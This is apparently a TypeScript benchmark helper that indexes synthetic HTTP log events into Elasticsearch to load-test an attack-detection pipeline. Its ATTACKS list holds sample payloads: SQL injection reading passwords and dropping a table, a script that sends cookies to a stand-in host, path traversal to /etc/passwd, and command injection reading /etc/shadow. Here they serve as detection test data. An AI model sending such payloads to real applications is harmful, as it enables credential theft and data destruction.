import type { Client } from '@elastic/elasticsearch';
import { STREAM } from '../../start/traffic.ts';

const ATTACKS = [
  "q=1'%20UNION%20SELECT%20password%20FROM%20users--",
  'q=%3Cscript%3Edocument.location%3D%27//x.example/%27%2Bdocument.cookie%3C/script%3E',
  'file=../../../../../../etc/passwd%00',
  'name=%27;%20DROP%20TABLE%20orders;--&sort=1',
  'host=127.0.0.1;cat%20/etc/shadow',
];
const PATHS = ['/search', '/api/v1/items', '/api/v2/products', '/api/v1/reviews', '/login', '/api/v1/orders'];
const FLUSH_MS = 100;

export interface Attackers {
  /** When the event of an address was sent; milliseconds since the epoch. */
  readonly sent: ReadonlyMap<string, number>;
  stop(): Promise<void>;
}

/** Addresses of the range for benchmarks, 198.18.0.0/15, each a network apart from the one before. */
const addressOf = (number: number): string => `198.${18 + ((number >> 16) & 1)}.${number & 255}.${(number >> 8) & 255}`;

/** Sends so many attacks a second as events through the processor, each from a source of its own, so each is an alert of its own. */
export function startAttackers(client: Client, perSecond: number, first: number): Attackers {
  const sent = new Map<string, number>();
  const begun = Date.now();
  let number = 0;
  let flying: Promise<unknown> = Promise.resolve();
  let failure: unknown;
  const flush = async () => {
    const due = Math.floor(((Date.now() - begun) / 1_000) * perSecond);
    if (due <= number) return;
    const operations: object[] = [];
    for (; number < due; number++) {
      const address = addressOf(first + number);
      const now = Date.now();
      sent.set(address, now);
      operations.push({ create: { _index: STREAM } }, eventOf(address, first + number, now));
    }
    await client.bulk({ operations });
  };
  const timer = setInterval(() => {
    flying = flying.then(flush).catch((error: unknown) => {
      failure ??= error;
    });
  }, FLUSH_MS);
  return {
    sent,
    async stop() {
      clearInterval(timer);
      await flying;
      if (failure) throw failure;
    },
  };
}

function eventOf(address: string, number: number, now: number): Record<string, unknown> {
  const query = ATTACKS[number % ATTACKS.length];
  const path = PATHS[number % PATHS.length];
  return {
    '@timestamp': new Date(now).toISOString(),
    event: { id: `bench-${number}`, kind: 'event' },
    http: { request: { method: 'GET' }, response: { status_code: 200 } },
    url: { path, query, original: `${path}?${query}` },
    source: { ip: address },
    user_agent: { original: `Mozilla/5.0 (X11; Linux x86_64; rv:1${number % 40}.0) Gecko/20100101` },
  };
}
